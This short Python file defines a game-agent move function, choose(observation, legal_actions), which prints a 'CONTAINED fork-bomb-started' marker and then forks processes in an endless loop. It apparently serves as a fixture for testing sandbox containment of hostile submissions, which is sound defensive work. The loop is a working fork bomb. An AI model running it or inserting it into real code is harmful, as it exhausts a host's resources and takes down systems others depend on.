import contextlib
import os


def choose(observation, legal_actions):
    print("CONTAINED fork-bomb-started", flush=True)
    while True:
        with contextlib.suppress(OSError):
            os.fork()
